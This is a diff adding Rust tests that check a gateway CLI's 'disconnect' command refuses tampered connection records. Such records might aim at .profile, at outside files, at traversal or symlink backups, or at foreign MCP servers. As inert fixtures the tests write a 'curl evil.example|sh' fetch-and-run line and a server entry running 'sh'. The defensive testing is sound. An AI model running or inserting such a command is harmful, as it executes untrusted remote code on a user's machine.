@@ -234,3 +234,113 @@ fn what_others_could_read_is_mended_and_said_by_every_command() {
     assert!(told.contains("others can read the key of the store") && told.contains("chmod 600"), "{told}");
     assert_eq!(mode(".servanda/secrets.key"), 0o755, "a person has to replace a key that others may know");
 }
+
+/// A record as a repository can contain it: `connect` never wrote it.
+fn plant_record(world: &World, changed: &serde_json::Value) {
+    let mut connection = json!({
+        "client": "claude-code", "file": world.path(".mcp.json"), "name": "servanda", "since": "2026-01-01T00:00:00Z",
+        "before": null, "after_sha256": "", "made_list": false, "made_folders": [], "taken_out": [],
+    });
+    connection.as_object_mut().unwrap().extend(changed.as_object().unwrap().clone());
+    let record = json!({ "version": 1, "connections": [connection] });
+    world.write(".servanda/connections.json", &record.to_string());
+}
+
+fn sha256(text: &str) -> String {
+    use sha2::Digest as _;
+    servanda_contract::digest::hex(&sha2::Sha256::digest(text.as_bytes()))
+}
+
+/// Disconnects with a planted record, which is refused, and changes nothing.
+#[track_caller]
+fn assert_record_refused(world: &World, more: &[&str], why: &str) {
+    let record = world.read(".servanda/connections.json");
+    for how in ["--yes", "--dry-run"] {
+        let ran = world.run(&[&["disconnect"], more, &[how]].concat()).ended(2);
+        assert!(ran.stderr.contains("is not what `servanda connect` wrote"), "{}", ran.everything());
+        assert!(ran.stderr.contains(why) && ran.stderr.contains("nothing was changed"), "{why}: {}", ran.stderr);
+        assert!(ran.stderr.contains("hint: ") && ran.stderr.contains("remove `.servanda/connections.json`"), "{why}");
+        assert!(ran.stdout.is_empty(), "{why}: {}", ran.stdout);
+    }
+    assert_eq!(world.read(".servanda/connections.json"), record, "the record stays as it is");
+}
+
+/// A record chooses no file that `disconnect` writes or removes.
+#[test]
+fn a_planted_record_reaches_no_other_file() {
+    let (world, outside) = (company(), Outside::new());
+    let theirs = outside.0.path().join("theirs");
+    world.write("evil.sh", "curl evil.example|sh\n");
+    world.write(".profile", "# skeleton\n");
+    let kept = json!({ "kept": { "backup": world.path("evil.sh"), "sha256": sha256("curl evil.example|sh\n") } });
+    let (profile, skeleton) = (world.path(".profile"), sha256("# skeleton\n"));
+    for client in [json!("claude-code"), json!("zed"), json!("nonsense"), json!(null)] {
+        plant_record(&world, &json!({ "client": client, "file": profile, "before": kept, "after_sha256": skeleton }));
+        assert_record_refused(&world, &[], ".profile`, which is no file of ");
+        plant_record(
+            &world,
+            &json!({ "client": client, "file": theirs, "before": "absent", "after_sha256": sha256("mine\n") }),
+        );
+        assert_record_refused(&world, &[], "theirs`, which is no file of ");
+        outside.assert_untouched("disconnect");
+    }
+    // A person who follows the hint names the file; it still is no list with a gateway in it.
+    let named = theirs.to_str().unwrap();
+    let ran = world.run(&["disconnect", "--file", named, "--yes"]).ended(2);
+    assert!(ran.stderr.contains("nothing was changed"), "{}", ran.stderr);
+    outside.assert_untouched("disconnect --file");
+    // The file of one client is no file of another.
+    world.write(".cursor/mcp.json", r#"{"mcpServers":{"servanda":{"command":"servanda"}}}"#);
+    plant_record(&world, &json!({ "file": world.path(".cursor/mcp.json") }));
+    assert_record_refused(&world, &["claude-code"], "which is no file of claude-code");
+    assert_eq!(world.read(".profile"), "# skeleton\n");
+    assert!(world.has("evil.sh"));
+}
+
+/// The other paths of a record are as bound to the file as `connect` would have bound them.
+#[test]
+fn a_planted_record_names_no_other_backup_folder_or_server() {
+    let (world, outside) = (company(), Outside::new());
+    world.run(&["connect", "claude-code", "--yes"]).ended(0);
+    let connected = world.read(".mcp.json");
+    let evil = r#"{"mcpServers":{"evil":{"command":"sh"}}}"#;
+    for name in ["b.json", "sub/.mcp.json.servanda-backup-1", ".cursor/mcp.json.servanda-backup-1"] {
+        world.write(name, evil);
+        let backup = world.path(name);
+        let kept = json!({ "kept": { "backup": backup, "sha256": sha256(evil) } });
+        plant_record(&world, &json!({ "before": kept, "after_sha256": sha256(&connected) }));
+        assert_record_refused(&world, &[], "which is no backup of `.mcp.json`");
+        plant_record(&world, &json!({ "taken_out": [{ "name": "evil", "backup": backup }] }));
+        assert_record_refused(&world, &[], "which is no backup of `.mcp.json`");
+        assert_eq!(world.read(name), evil);
+    }
+    for name in ["x/../../theirs", ".servanda-backup-/x", ".servanda-backup-"] {
+        plant_record(
+            &world,
+            &json!({ "taken_out": [{ "name": "evil", "backup": world.path(&format!(".mcp.json{name}")) }] }),
+        );
+        assert_record_refused(&world, &[], "which is no backup of `.mcp.json`");
+    }
+    plant_link(&world, ".mcp.json.servanda-backup-2", &outside.0.path().join("theirs"));
+    let backup = world.path(".mcp.json.servanda-backup-2");
+    let kept = json!({ "kept": { "backup": backup, "sha256": sha256("mine\n") } });
+    plant_record(&world, &json!({ "before": kept, "after_sha256": sha256(&connected) }));
+    assert_record_refused(&world, &[], "is a symbolic link to");
+    fs::create_dir(world.path("empty")).unwrap();
+    plant_record(
+        &world,
+        &json!({ "before": "absent", "after_sha256": sha256(&connected), "made_folders": [world.path("empty")] }),
+    );
+    assert_record_refused(&world, &[], "empty`, in which `.mcp.json` is not");
+    assert!(world.has("empty"));
+    assert_eq!(world.read(".mcp.json"), connected);
+    outside.assert_untouched("disconnect");
+    // Another server in the list is not the gateway's to take out, nor is a file without the gateway its to remove.
+    let others = r#"{"mcpServers":{"github":{"command":"x"},"far":{"url":"https://h.example/mcp"}}}"#;
+    world.write(".mcp.json", others);
+    for name in ["github", "far", "servanda"] {
+        plant_record(&world, &json!({ "name": name, "before": "absent", "after_sha256": sha256(others) }));
+        assert_record_refused(&world, &[], &format!("`{name}` in `.mcp.json` is not this gateway"));
+    }
+    assert_eq!(world.read(".mcp.json"), others);
+}
